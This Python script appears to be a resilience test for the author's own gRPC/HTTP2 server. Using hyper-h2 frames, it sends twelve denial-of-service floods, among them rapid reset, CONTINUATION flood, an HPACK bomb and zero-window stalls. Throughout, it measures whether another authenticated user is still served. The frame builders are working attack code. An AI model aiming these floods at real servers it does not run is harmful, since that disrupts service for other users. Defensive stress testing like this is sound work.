"""Floods a server with HTTP/2 and watches another user meanwhile.

floods.py CERTS HOST PORT [--seconds N]

CERTS is a folder of `worker pki init` with the identities admin (who is watched), and mallory (who
floods). For each flood: how the server ended the flooder's connection, after how many frames and
seconds, and what one call of the other user took in that time, beside what it took in peace. Fails
when a flood was borne to the end or the other user was refused; how long it took fails nothing.
"""
import argparse
import socket
import ssl
import statistics
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hyperframe import frame as frames

parser = argparse.ArgumentParser()
parser.add_argument("certs")
parser.add_argument("host")
parser.add_argument("port", type=int)
parser.add_argument("--seconds", type=float, default=1.0, help="of each flood, at most")
options = parser.parse_args()
PATH = "/worker.v1.JobService/GetServerInfo"


def open_socket(name):
    context = ssl.create_default_context(cafile=f"{options.certs}/ca.crt")
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.load_cert_chain(f"{options.certs}/{name}.crt", f"{options.certs}/{name}.key")
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((options.host, options.port), timeout=10)
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return context.wrap_socket(plain, server_hostname=options.host)


def request_headers(path=PATH):
    return [(":method", "POST"), (":scheme", "https"), (":authority", options.host),
            (":path", path), ("content-type", "application/grpc"), ("te", "trailers")]


class Client:
    """A connection that speaks properly, by hyper-h2."""

    def __init__(self, name):
        self.socket = open_socket(name)
        config = h2.config.H2Configuration(
            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False)
        self.h2 = h2.connection.H2Connection(config)
        self.h2.initiate_connection()
        self.flush()

    def flush(self):
        self.socket.sendall(self.h2.data_to_send())

    def call(self):
        """One unary call; its grpc-status."""
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, request_headers())
        self.h2.send_data(stream, b"\0\0\0\0\0", end_stream=True)
        self.flush()
        status = None
        while True:
            data = self.socket.recv(65536)
            if not data:
                raise ConnectionError("closed")
            for event in self.h2.receive_data(data):
                if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    status = dict(event.headers).get(b"grpc-status", status)
                if isinstance(event, h2.events.DataReceived):
                    self.h2.acknowledge_received_data(
                        event.flow_controlled_length, event.stream_id)
                if isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    raise ConnectionError(type(event).__name__)
                if isinstance(event, h2.events.StreamEnded) and event.stream_id == stream:
                    self.flush()
                    return status
            self.flush()


class Watch(threading.Thread):
    """The other user, who calls over and over on one connection."""

    def __init__(self, seconds=None):
        super().__init__(daemon=True)
        self.client = Client("admin")
        self.times, self.failure, self.over = [], None, threading.Event()

    def run(self):
        try:
            while not self.over.is_set():
                begun = time.perf_counter()
                status = self.client.call()
                self.times.append((time.perf_counter() - begun) * 1000)
                if status not in (b"0", None):
                    raise ConnectionError(f"grpc-status {status}")
                time.sleep(0.002)
        except Exception as error:  # told by the main thread
            self.failure = error

    def end(self):
        self.over.set()
        self.join(10)
        return self.times or [float("nan")]


def encoded(client, fields):
    return client.h2.encoder.encode(fields)


def serialize(*list_of_frames):
    return b"".join(f.serialize() for f in list_of_frames)


def headers(client, stream, flags=("END_HEADERS",)):
    frame = frames.HeadersFrame(stream, data=encoded(client, request_headers()))
    for flag in flags:
        frame.flags.add(flag)
    return frame


def rapid_reset(client, number):
    stream = 2 * number + 1
    return serialize(headers(client, stream), frames.RstStreamFrame(stream, error_code=8))


def continuation(client, number):
    if number == 0:
        return serialize(headers(client, 1, flags=()))
    return serialize(frames.ContinuationFrame(1, data=b"\x00\x01a\x01b"))


def ping(client, number):
    return serialize(frames.PingFrame(opaque_data=b"abcdefgh"))


def settings(client, number):
    return serialize(frames.SettingsFrame(settings={4: 65535 - number % 2}))


def tiny_windows(client, number):
    begin = serialize(headers(client, 1)) if number == 0 else b""
    return begin + serialize(frames.WindowUpdateFrame(1, window_increment=1))


def zero_window(client, number):
    """Calls whose answers have no window, and settings that take it away."""
    if number == 0:
        return serialize(frames.SettingsFrame(settings={4: 0}))
    stream = 2 * number + 1
    data = frames.DataFrame(stream, data=b"\0\0\0\0\0")
    data.flags.add("END_STREAM")
    return serialize(headers(client, stream), data)


def huge_headers(client, number):
    if number == 0:  # encoding is slow here, and the bytes mean the same each time
        client.huge = encoded(client, request_headers() + [("x", "a" * 20000)])
    frame = frames.HeadersFrame(2 * number + 1, data=client.huge)
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    return serialize(frame)


def hpack_bomb(client, number):
    if number == 0:
        bomb = b"\x40\x01a\x7f\xb9\x16" + b"a" * 3000
        frame = headers(client, 1)
        frame.data += bomb
        return serialize(frame)
    frame = headers(client, 2 * number + 1)
    frame.data += b"\xbe" * 4000
    return serialize(frame)


def empty_data(client, number):
    begin = serialize(headers(client, 1)) if number == 0 else b""
    return begin + serialize(frames.DataFrame(1, data=b""))


def empty_headers(client, number):
    frame = frames.HeadersFrame(2 * number + 1, data=b"")
    frame.flags.add("END_HEADERS")
    return serialize(frame)


def priority(client, number):
    return serialize(frames.PriorityFrame(
        2 * number + 1, depends_on=2 * number + 3, stream_weight=16))


def made_you_reset(client, number):
    stream = 2 * number + 1
    bad = frames.WindowUpdateFrame(stream, window_increment=1).serialize()[:-4] + b"\0\0\0\0"
    return serialize(headers(client, stream)) + bad


FLOODS = [rapid_reset, made_you_reset, continuation, ping, settings, tiny_windows, zero_window,
          huge_headers, hpack_bomb, empty_data, empty_headers, priority]


def connect_mallory():
    """Waits out the penalty of the flood before."""
    end = time.monotonic() + 30
    while True:
        client = Client("mallory")
        try:
            if client.call() in (b"0", None):
                break
        except (ConnectionError, h2.exceptions.ProtocolError, OSError):
            pass
        if time.monotonic() > end:
            raise SystemExit("floods: mallory is not let in again")
        time.sleep(0.5)
    client.socket.close()
    client = Client("mallory")
    client.socket.recv(65536)  # the server's settings
    return client


def attack(flood):
    client = connect_mallory()
    client.socket.settimeout(0.5)
    client.ended = None

    def listen():
        try:
            while client.socket.recv(65536):
                pass
            client.ended = "closed"
        except TimeoutError:
            return listen()
        except OSError as error:
            client.ended = type(error).__name__
    threading.Thread(target=listen, daemon=True).start()
    begun, number = time.perf_counter(), 0
    try:
        while client.ended is None and time.perf_counter() - begun < options.seconds:
            batch = b"".join(flood(client, number + n) for n in range(50))
            number += 50
            client.socket.sendall(batch)
    except OSError as error:
        client.ended = client.ended or type(error).__name__
    end = time.monotonic() + 3
    while client.ended is None and time.monotonic() < end:
        time.sleep(0.02)
    elapsed = time.perf_counter() - begun
    client.socket.close()
    return client.ended, number, elapsed


def percentile(times, share):
    return sorted(times)[min(len(times) - 1, int(len(times) * share))]


def main():
    peace = Watch()
    peace.start()
    time.sleep(options.seconds)
    base = peace.end()
    print(f"{'flood':<16} {'ended':<20} {'frames':>8} {'s':>6}  other user's call, ms: p50 / p99 "
          f"(in peace {statistics.median(base):.2f} / {percentile(base, 0.99):.2f})")
    failed = 0
    for flood in FLOODS:
        watch = Watch()
        watch.start()
        ended, number, elapsed = attack(flood)
        times = watch.end()
        print(f"{flood.__name__:<16} {ended or 'no':<20} {number:>8} {elapsed:>6.2f}  "
              f"{statistics.median(times):.2f} / {percentile(times, 0.99):.2f}", flush=True)
        if watch.failure:
            print(f"floods: the other user failed: {watch.failure}", file=sys.stderr)
            failed += 1
        if ended is None:
            print(f"floods: {flood.__name__} was borne", file=sys.stderr)
            failed += 1
    sys.exit(1 if failed else 0)


main()
